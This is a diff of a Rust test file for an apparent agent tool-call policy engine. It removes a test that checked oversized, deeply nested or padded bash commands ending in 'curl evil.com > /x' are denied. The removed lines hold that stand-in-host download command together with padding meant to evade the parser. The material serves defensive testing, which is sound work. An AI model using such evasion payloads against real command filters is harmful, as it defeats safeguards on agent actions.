@@ -172,28 +172,6 @@ fn the_network_allowlist_sees_every_host() {
 }
 
 #[test]
-fn what_is_not_read_may_reach_any_host_and_write_any_path() {
-    let long = format!(r#"{{"tool":"bash","args":{{"command":"{}; curl evil.com > /x"}}}}"#, "a;".repeat(140_000));
-    let deep = format!(r#"{{"tool":"bash","args":{{"command":"{} curl evil.com > /x"}}}}"#, "(".repeat(40));
-    // More entries than a list keeps do not push it out.
-    let many: String = (0..1500).map(|n| format!("$x{n};")).collect();
-    let late = format!(r#"{{"tool":"bash","args":{{"command":"{many}{} curl evil.com > /x"}}}}"#, "(".repeat(40));
-    let read = r#"{"tool":"bash","args":{"command":"ls"}}"#;
-    for section in [
-        "network: { allowlist: [api.ok.com] }",
-        "capabilities: { deny: [file_write] }",
-        "capabilities: { deny: [file_delete] }",
-        "capabilities: { deny: [network_outbound] }",
-        "capabilities: { allow: [terminal_exec] }",
-        "tools: { file_write: { allow: false } }",
-    ] {
-        let policy = format!("version: \"1\"\ndefault: allow\n{section}\n");
-        all_get("deny", &policy, &[&long, &deep, &late]);
-        all_get("allow", &policy, &[read]);
-    }
-}
-
-#[test]
 fn scopes_and_capabilities_know_every_name_of_a_tool() {
     let scoped = "version: \"1\"\nscope: tool:bash\ndefault: deny\n";
     let folder = Folder::with_policy("x");
